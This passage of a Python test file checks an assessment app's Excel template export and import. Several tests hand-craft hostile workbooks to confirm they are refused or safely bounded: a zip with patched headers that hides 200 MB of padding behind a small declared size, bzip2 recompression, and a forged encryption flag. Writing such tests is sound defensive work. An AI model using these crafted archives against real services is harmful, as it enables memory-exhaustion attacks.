    assert (cell.value, cell.data_type) == (formula, "s")
    assert all(
        c.data_type != "f" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
    )


def _with_member_replaced(original: bytes, name: str, content: bytes, *, declared: int) -> bytes:
    """A copy of a zip whose member ``name`` holds ``content`` but declares ``declared`` bytes
    (the sizes in the local header and the central directory are patched), with the CRC of
    the first ``declared`` bytes, so that a reader stopping at the declared size finds it
    sound."""
    import struct
    import zipfile
    import zlib

    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            body = content if member.filename == name else source.read(member)
            target.writestr(member.filename, body)
    data = bytearray(packed.getvalue())
    crc = zlib.crc32(content[:declared])
    encoded = name.encode()
    local = data.index(b"PK\x03\x04")
    while data[local + 30 : local + 30 + len(encoded)] != encoded:
        local = data.index(b"PK\x03\x04", local + 4)
    struct.pack_into("<I", data, local + 14, crc)
    struct.pack_into("<I", data, local + 22, declared)
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(encoded)] != encoded:
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 16, crc)
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


def test_a_workbook_part_that_holds_more_than_it_declares_is_read_only_as_declared(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """The content-types part declares its own size but holds 200 MB more: the copy made
    before openpyxl reads it keeps the declared bytes only, so memory stays small (it grew by
    the whole 200 MB, and by gigabytes for the security review's 2 KB file)."""
    import tracemalloc
    import zipfile

    draft, etag = start_assessment()
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P3", Answer="Imported from a padded workbook")
    original = saved_bytes(workbook)
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        types = source.read("[Content_Types].xml")
    padded = _with_member_replaced(
        original, "[Content_Types].xml", types + b" " * (200 << 20), declared=len(types)
    )
    assert len(padded) < 2 << 20

    tracemalloc.start()
    try:
        response = import_xlsx(client, tenant_a.investor, draft["id"], padded, etag)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert response.status_code == 200, response.text
    assert response.json()["imported"] == ["P3"]
    assert peak < 50 << 20, f"peak {peak:,} bytes"


def test_a_workbook_compressed_as_excel_does_not_is_refused(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """bzip2 and LZMA members are unpacked without any limit whatever size they declare."""
    import zipfile

    draft, etag = start_assessment()
    before = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(saved_bytes(workbook))) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_BZIP2) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, source.read(member))
    response = import_xlsx(client, tenant_a.investor, draft["id"], packed.getvalue(), etag)
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert (
        error["path"] == "file" and "compressed in a way Excel does not write" in error["message"]
    )
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_a_workbook_with_an_encrypted_part_is_refused(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """Reading an encrypted member raises an error nothing caught, a 500 (the code review)."""
    import struct

    draft, etag = start_assessment()
    before = read(client, tenant_a.investor, draft["id"])
    data = bytearray(saved_bytes(template(client, tenant_a.investor, bundled.version)))
    central = data.index(b"PK\x01\x02")
    flags = struct.unpack_from("<H", data, central + 8)[0]
    struct.pack_into("<H", data, central + 8, flags | 0x1)
    response = import_xlsx(client, tenant_a.investor, draft["id"], bytes(data), etag)
    assert response.status_code == 422, response.text
    [error] = response.json()["errors"]
    assert error["path"] == "file" and "is encrypted" in error["message"]
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_an_assessments_template_shows_its_answers_and_imports_back_unchanged(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """The workbook names the company and shows every answer so far (each answer type), so
    an investor edits what is there; imported back as it is, nothing changes."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, draft["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    response = client.get(url(draft["id"], "/template.xlsx"), headers=tenant_a.investor)
    assert response.status_code == 200, response.text
    disposition = response.headers["content-disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    assert about["company_id"] == draft["company_id"]
    assert about["assessment_id"] == draft["id"]
    assert about["company"] and about["company"].casefold().replace(" ", "-") in disposition
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    shown = {
        row[0]: dict(zip(header, row, strict=False))
        for row in sheet.iter_rows(min_row=2, values_only=True)
    }
    assert shown["EX1"]["Answer"] == "interception, forensic_extraction"
    assert shown["EX2"]["Answer"] == 40
    assert (shown["P1"]["Answer"], shown["P1"]["Evidence URL"]) == ("partial", None)
    assert (shown["P2"]["Answer"], shown["P2"]["Not-applicable reason"]) == (
        "not_applicable",
        "Test reason",
    )
    assert (shown["P3"]["Answer"], shown["P3"]["Comment"]) == (
        "Reviewed by nobody independent.",
        "Test",
    )
    assert shown["G1"]["Answer"] is None

    before = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    back = import_xlsx(
        client, tenant_a.investor, draft["id"], response.content, saved.headers["ETag"]
    )
    assert back.status_code == 200, back.text
    # Nothing changed, so nothing is reported as imported (the user test read all 38).
    assert (back.json()["imported"], back.json()["removed"]) == ([], [])
    after = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    assert {q: a["payload"] for q, a in after.items()} == {
        q: a["payload"] for q, a in before.items()
    }


def test_an_assessments_template_with_hidden_answers_imports_back_unchanged(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """EX5 answered "no" after EU3a and EU3b were: the template shows their kept answers, and
    imported as it came it was refused for answering hidden questions."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, draft["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    hidden = patch_answers(
        client,
        tenant_a.investor,
        draft["id"],
        {"EX5": {"type": "single_choice", "value": "no"}},
        saved.headers["ETag"],
    )
    assert hidden.status_code == 200, hidden.text
    before = answered(client, tenant_a.investor, draft["id"])
    assert before["EU3a"][1] and before["EU3b"][1]  # kept, hidden
    workbook = assessment_template(client, tenant_a.investor, draft["id"])
    back = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), hidden.headers["ETag"]
    )
    assert back.status_code == 200, back.text
    assert answered(client, tenant_a.investor, draft["id"]) == before
    history = answer_events(client, tenant_a.investor, draft["id"])
    # Only its first setting: the import recorded nothing for it.
    assert [(e[0], e[2]) for e in history if e[0] == "answers.EU3a"] == [("answers.EU3a", None)]


GREY = "00D9D9D9"


def rows_by_question(workbook: Any) -> dict[str, dict[str, Any]]:
    """Each question's row: its cells by header label."""
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    return {
        row[0].value: dict(zip(header, row, strict=False))
        for row in sheet.iter_rows(min_row=2)
        if row[0].value
    }


def hide_eu3(client: TestClient, tenant: Any, start_assessment: Start) -> tuple[str, str]:
    """A draft with every ANSWERS answer, then EX5 answered "no": EU3a and EU3b hidden with
    their answers kept. Returns (assessment id, ETag)."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant.investor, draft["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    hidden = patch_answers(
        client,
        tenant.investor,
        draft["id"],
        {"EX5": {"type": "single_choice", "value": "no"}},
        saved.headers["ETag"],
    )
    assert hidden.status_code == 200, hidden.text
    return draft["id"], hidden.headers["ETag"]


def test_an_assessments_template_marks_the_rows_its_answers_hide_and_says_why(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """The user test: EX5 "no" hides EU3a and EU3b, their rows looked like any other, and the
    investor filled them in to have the import refuse them. Their rows are grey and Shown now
    says why; the shown rows say Yes and keep their yellow answer cells. The same import may
    still answer them, with the answer that hides them changed."""
    assessment_id, etag = hide_eu3(client, tenant_a, start_assessment)
    workbook = assessment_template(client, tenant_a.investor, assessment_id)
    rows = rows_by_question(workbook)
    assert rows["EU3a"][SHOWN_NOW].value == "No: hidden because EX5 is 'no'"
    assert rows["EU3b"][SHOWN_NOW].value == ("No: hidden because EU3a is hidden (EX5 is 'no')")
    for question_id in ("EU3a", "EU3b"):
        assert {rows[question_id][label].fill.fgColor.rgb for label in ("Question", "Answer")} == {
            GREY
        }
    for question_id in ("EX5", "P1", "G1"):  # answered and shown, gating, unanswered
        assert rows[question_id][SHOWN_NOW].value == "Yes"
        assert rows[question_id]["Question"].fill.fgColor.rgb != GREY
        assert rows[question_id]["Answer"].fill.fgColor.rgb == "00FFF7D6"
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    assert "a grey row is a question its answers hide now" in about["how to fill in"]

    fill(workbook, "EX5", Answer="yes")
    fill(workbook, "EU3a", Answer="no")
    opened = import_xlsx(client, tenant_a.investor, assessment_id, saved_bytes(workbook), etag)
    assert opened.status_code == 200, opened.text
    assert opened.json()["imported"] == ["EX5", "EU3a"]


def test_a_blank_template_marks_no_row(
    client: TestClient, tenant_a: Any, bundled: Questionnaire
) -> None:
    """A blank template has no answers to hide anything: Shown now is empty and no row is
    grey, the condition in Shown only when being all it can say."""
    rows = rows_by_question(template(client, tenant_a.investor, bundled.version))
    assert rows["EU3a"]["Shown only when"].value
    assert {row[SHOWN_NOW].value for row in rows.values()} == {None}
    assert GREY not in {row["Question"].fill.fgColor.rgb for row in rows.values()}


def test_a_template_made_before_the_shown_now_column_still_imports(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """A format 3 template of an assessment with hidden answers (no Shown now column, the
    answer columns one to the left) imports back unchanged, and a row changed in it is read
    from the right column."""
    assessment_id, etag = hide_eu3(client, tenant_a, start_assessment)
    before = answered(client, tenant_a.investor, assessment_id)
    workbook = as_older_format(
        assessment_template(client, tenant_a.investor, assessment_id),
        "hrdd-assessment-template/3",
    )
    unchanged = import_xlsx(client, tenant_a.investor, assessment_id, saved_bytes(workbook), etag)
    assert unchanged.status_code == 200, unchanged.text
    assert (unchanged.json()["imported"], unchanged.json()["removed"]) == ([], [])
    assert answered(client, tenant_a.investor, assessment_id) == before
    fill(workbook, "P3", Answer="Reviewed by an auditor.", **{REMOVE_COLUMN: None})
    changed = import_xlsx(
        client, tenant_a.investor, assessment_id, saved_bytes(workbook), unchanged.headers["ETag"]
    )
    assert changed.status_code == 200, changed.text
    assert changed.json()["imported"] == ["P3"]
    payload = read(client, tenant_a.investor, assessment_id)[0]["answers"]["P3"]["payload"]
    assert (payload["value"], payload["comment"]) == ("Reviewed by an auditor.", "Test")


def test_a_number_stored_without_its_unit_comes_back_from_the_template_unchanged(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """The user test: R1 answered through the API without a unit (the question's applies) was
    rewritten with the unit by an unchanged template, in the investor's name."""
    draft, etag = start_assessment()
    saved = patch_answers(
        client,
        tenant_a.investor,
        draft["id"],
        {"R1": {"type": "number", "value": 3, "comment": "my count"}},
        etag,
    )
    assert saved.status_code == 200, saved.text
    before = answered(client, tenant_a.investor, draft["id"])
    workbook = assessment_template(client, tenant_a.investor, draft["id"])
    back = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert back.status_code == 200, back.text
    assert back.json()["imported"] == []
    assert answered(client, tenant_a.investor, draft["id"]) == before
    assert len(answer_events(client, tenant_a.investor, draft["id"])) == 1
    # A new count through the template is recorded, keeping the stored form of the unit.
    fill(workbook, "R1", Answer=4)
    changed = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), back.headers["ETag"]
    )
    assert changed.json()["imported"] == ["R1"]
    payload = answered(client, tenant_a.investor, draft["id"])["R1"][0]
    assert (payload["value"], payload.get("unit")) == ("4", None)


def test_an_assessments_template_is_refused_by_another_companys_assessment(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """Filled for Sandvine, imported into Paragon: 47 answers landed on the wrong company (the
    investor review). The JSON import already refused this; the workbook now says whose it
    is. A blank questionnaire template names no company and still fits any assessment."""
    sandvine, sandvine_etag = start_assessment()
    paragon, paragon_etag = start_assessment()
    made_for_sandvine = client.get(url(sandvine["id"], "/template.xlsx"), headers=tenant_a.investor)
    workbook = load_workbook(io.BytesIO(made_for_sandvine.content))
    fill(workbook, "P3", Answer="PacketLogic DPI")
    refused = import_xlsx(
        client, tenant_a.investor, paragon["id"], saved_bytes(workbook), paragon_etag
    )
    assert refused.status_code == 422, refused.text
    assert error_paths(refused) == {"file"}
    assert sandvine["company_id"] in refused.json()["detail"]
    assert read(client, tenant_a.investor, paragon["id"])[0]["answers"] == {}

    # Without its company row, it still names its assessment.
    about = workbook["About"]
    [company_row] = [c.row for c in about["A"] if c.value == "company_id"]
    about.delete_rows(company_row)
    still = import_xlsx(
        client, tenant_a.investor, paragon["id"], saved_bytes(workbook), paragon_etag
    )
    assert still.status_code == 422, still.text
    assert sandvine["id"] in still.json()["detail"]

    own = import_xlsx(
        client, tenant_a.investor, sandvine["id"], saved_bytes(workbook), sandvine_etag
    )
    assert own.status_code == 200, own.text
    blank = template(client, tenant_a.investor, bundled.version)
    fill(blank, "P3", Answer="PacketLogic DPI")
    fits = import_xlsx(client, tenant_a.investor, paragon["id"], saved_bytes(blank), paragon_etag)
    assert fits.status_code == 200, fits.text


# --- removing answers through the template ---------------------------------------------------


def answer_events(client: TestClient, headers: dict[str, str], assessment_id: str) -> list[Any]:
    """The history's answer changes, without their time, ordered by question and action."""
    response = client.get(url(assessment_id, "/history?limit=500"), headers=headers)
    assert response.status_code == 200, response.text
    return sorted(
        (
            (e["field"], e["action"], e["old_value"], e["new_value"])
            for e in response.json()["items"]
            if (e["field"] or "").startswith("answers.")
        ),
        key=lambda event: (event[0], event[1]),
    )


def answered(
    client: TestClient, headers: dict[str, str], assessment_id: str
) -> dict[str, tuple[Any, bool]]:
    answers = read(client, headers, assessment_id)[0]["answers"]
    return {q: (a["payload"], a["excluded"]) for q, a in answers.items()}


def assessment_template(client: TestClient, headers: dict[str, str], assessment_id: str) -> Any:
    response = client.get(url(assessment_id, "/template.xlsx"), headers=headers)
    assert response.status_code == 200, response.text
    return load_workbook(io.BytesIO(response.content))


def test_the_template_offers_remove_in_a_drop_down_of_its_own(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, _ = start_assessment()
    workbook = assessment_template(client, tenant_a.investor, draft["id"])
    sheet = workbook["Answers"]
    header = [cell.value for cell in sheet[1]]
    column = get_column_letter(header.index(REMOVE_COLUMN) + 1)
    every_row = f"{column}2:{column}{len(bundled.questions) + 1}"
    [validation] = [
        validation
        for validation in sheet.data_validations.dataValidation
        if every_row in {str(cell_range) for cell_range in validation.sqref.ranges}
    ]
    assert (validation.type, validation.showErrorMessage) == ("list", True)
    reference = validation.formula1.split("!")[1].replace("$", "")
    assert [c.value for (c,) in workbook["Lists"][reference]] == ["remove"]
    about = {row[0]: row[1] for row in workbook["About"].iter_rows(values_only=True)}
    assert about["format"] == "hrdd-assessment-template/4"
    assert "pick remove in its Remove answer column" in about["how to fill in"]


def test_an_xlsx_row_marked_remove_deletes_its_answer_as_patch_null_does(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """An answer entered wrongly offline could not be removed through the template (a blank
    cell must never delete by accident). A row marked remove now deletes it as PATCH with
    null does: the same answers after, the same history, a new ETag. As in PATCH, the
    questions EX5 gated (EU3a, EU3b) keep their answers, hidden: their rows, which the
    template shows as they are, change nothing; changing one is refused as a hidden
    question."""
    offline, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, offline["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    before = read(client, tenant_a.investor, offline["id"])
    workbook = assessment_template(client, tenant_a.investor, offline["id"])
    # The cells the template shows are emptied, as the marker asks; its case does not matter.
    fill(workbook, "P3", Answer=None, Comment=None, **{REMOVE_COLUMN: "remove"})
    fill(workbook, "EX5", Answer=None, **{REMOVE_COLUMN: " Remove "})
    changed = fill(workbook, "EU3b", Answer="2017-01-01")
    refused = import_xlsx(
        client, tenant_a.investor, offline["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert refused.status_code == 422, refused.text
    assert error_paths(refused) == {f"rows.{changed}.answer"}
    assert read(client, tenant_a.investor, offline["id"]) == before

    fill(workbook, "EU3b", Answer=ANSWERS["EU3b"]["value"])
    response = import_xlsx(
        client, tenant_a.investor, offline["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert response.status_code == 200, response.text
    assert sorted(response.json()["removed"]) == ["EX5", "P3"]
    assert response.headers["ETag"] != saved.headers["ETag"]
    assert read(client, tenant_a.investor, offline["id"])[1] == response.headers["ETag"]

    online, etag = start_assessment()
    set_online = patch_answers(client, tenant_a.investor, online["id"], ANSWERS, etag)
    deleted = patch_answers(
        client,
        tenant_a.investor,
        online["id"],
        {"P3": None, "EX5": None},
        set_online.headers["ETag"],
    )
    assert deleted.status_code == 200, deleted.text

    after = answered(client, tenant_a.investor, offline["id"])
    assert "P3" not in after and "EX5" not in after
    assert after["EU3a"] == (before[0]["answers"]["EU3a"]["payload"], True)
    assert after["EU3b"] == (before[0]["answers"]["EU3b"]["payload"], True)
    assert after == answered(client, tenant_a.investor, online["id"])
    events = answer_events(client, tenant_a.investor, offline["id"])
    assert [(field, new) for field, action, _, new in events if action == "answer_deleted"] == [
        ("answers.EX5", None),
        ("answers.P3", None),
    ]
    assert events == answer_events(client, tenant_a.investor, online["id"])


def test_removing_an_answer_that_is_not_there_changes_nothing(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """So importing the same workbook again is safe: what it removes is already gone."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, draft["id"], {"P3": ANSWERS["P3"]}, etag)
    assert saved.status_code == 200, saved.text
    workbook = template(client, tenant_a.investor, bundled.version)
    fill(workbook, "P3", **{REMOVE_COLUMN: "remove"})
    fill(workbook, "G1", **{REMOVE_COLUMN: "remove"})  # never answered
    content = saved_bytes(workbook)
    first = import_xlsx(client, tenant_a.investor, draft["id"], content, saved.headers["ETag"])
    assert first.status_code == 200, first.text
    assert (first.json()["imported"], first.json()["removed"]) == ([], ["P3"])
    events = answer_events(client, tenant_a.investor, draft["id"])
    again = import_xlsx(client, tenant_a.investor, draft["id"], content, first.headers["ETag"])
    assert again.status_code == 200, again.text
    assert (again.json()["imported"], again.json()["removed"]) == ([], [])
    assert answered(client, tenant_a.investor, draft["id"]) == {}
    assert answer_events(client, tenant_a.investor, draft["id"]) == events


def test_an_xlsx_row_that_both_answers_and_removes_is_refused_naming_it(
    client: TestClient, tenant_a: Any, start_assessment: Start
) -> None:
    """Which one was meant is not guessed: the row is named and nothing is saved, not even
    the rows that were right."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, draft["id"], ANSWERS, etag)
    assert saved.status_code == 200, saved.text
    before = read(client, tenant_a.investor, draft["id"])
    workbook = assessment_template(client, tenant_a.investor, draft["id"])
    # Marked, but the answer and comment the template showed were left in place.
    both = fill(workbook, "P3", **{REMOVE_COLUMN: "remove"})
    fill(workbook, "P2", Answer=None, **{"Not-applicable reason": None, REMOVE_COLUMN: "remove"})
    fill(workbook, "G1", Answer="no")
    response = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert response.status_code == 422, response.text
    problems = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert list(problems) == [f"rows.{both}.remove_answer"]
    message = problems[f"rows.{both}.remove_answer"]
    assert message.startswith(f"row {both}, question P3:")
    assert "fills Answer, Comment" in message
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_anything_but_the_removal_marker_is_refused_naming_its_row(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    draft, etag = start_assessment()
    saved = patch_answers(
        client, tenant_a.investor, draft["id"], {q: ANSWERS[q] for q in ("P2", "P3")}, etag
    )
    assert saved.status_code == 200, saved.text
    before = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    rows = {
        fill(workbook, "P3", **{REMOVE_COLUMN: "remvoe"}): "'remvoe'",
        fill(workbook, "P2", **{REMOVE_COLUMN: "delete"}): "'delete'",
        fill(workbook, "G1", **{REMOVE_COLUMN: 1}): "1",
    }
    response = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert response.status_code == 422, response.text
    problems = {e["path"]: e["message"] for e in response.json()["errors"]}
    assert set(problems) == {f"rows.{row}.remove_answer" for row in rows}
    for row, shown in rows.items():
        assert problems[f"rows.{row}.remove_answer"].startswith(f"row {row}, question ")
        assert f"{shown} is not the removal marker" in problems[f"rows.{row}.remove_answer"]
    assert read(client, tenant_a.investor, draft["id"]) == before


def test_a_template_made_before_the_remove_column_still_imports(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """Templates handed out before the column (format 2) are read without it: a note where
    it now is removes nothing. A current template whose column header was changed is
    refused, so a marker is never silently ignored."""
    draft, etag = start_assessment()
    saved = patch_answers(client, tenant_a.investor, draft["id"], {"P3": ANSWERS["P3"]}, etag)
    assert saved.status_code == 200, saved.text
    kept = saved.json()["answers"]["P3"]["payload"]
    workbook = as_older_format(
        template(client, tenant_a.investor, bundled.version),
        "hrdd-assessment-template/2",
        REMOVE_COLUMN,
    )
    fill(workbook, "P3", **{"My notes": "remove"})
    fill(workbook, "P1", Answer="full", **POLICY_EVIDENCE, **{SOURCE_COLUMN: "company"})
    response = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), saved.headers["ETag"]
    )
    assert response.status_code == 200, response.text
    assert (response.json()["imported"], response.json()["removed"]) == (["P1"], [])
    answers = read(client, tenant_a.investor, draft["id"])[0]["answers"]
    assert answers["P3"]["payload"] == kept
    assert answers["P1"]["payload"]["evidence"][0]["source"] == "company"

    [format_row] = [row for row in workbook["About"].iter_rows() if row[0].value == "format"]
    format_row[1].value = "hrdd-assessment-template/3"
    refused = import_xlsx(
        client, tenant_a.investor, draft["id"], saved_bytes(workbook), response.headers["ETag"]
    )
    assert refused.status_code == 422, refused.text
    assert "header row" in refused.text


def test_an_xlsx_row_for_a_hidden_question_names_what_hides_it(
    client: TestClient, tenant_a: Any, bundled: Questionnaire, start_assessment: Start
) -> None:
    """A row for EU6 while EX5 is 'no' (saved, or in the same file) says so and how to go on;
    a number with a decimal comma says to write a decimal point. Nothing is saved."""
    draft, etag = start_assessment()
    saved = patch_answers(
        client,
        tenant_a.investor,
        draft["id"],
        {"EX5": {"type": "single_choice", "value": "no"}},
        etag,
    )
    etag = saved.headers["ETag"]
    before, _ = read(client, tenant_a.investor, draft["id"])
    workbook = template(client, tenant_a.investor, bundled.version)
    hidden = fill(workbook, "EU6", Answer="full")
    comma = fill(workbook, "EX2", Answer="12,5")
    response = import_xlsx(client, tenant_a.investor, draft["id"], saved_bytes(workbook), etag)
    assert response.status_code == 422, response.text
    assert {e["path"]: e["message"] for e in response.json()["errors"]} == {
        f"rows.{comma}.answer": f"row {comma}, question EX2: '12,5' is not a number: write it "
        "with a decimal point, e.g. 12.5",
        f"rows.{hidden}.answer": f"row {hidden}, question EU6: EU6 is hidden because EX5 is "
        "'no': change EX5 (in the same file if you like), or empty EU6's answer cell",
    }
    assert read(client, tenant_a.investor, draft["id"]) == (before, etag)
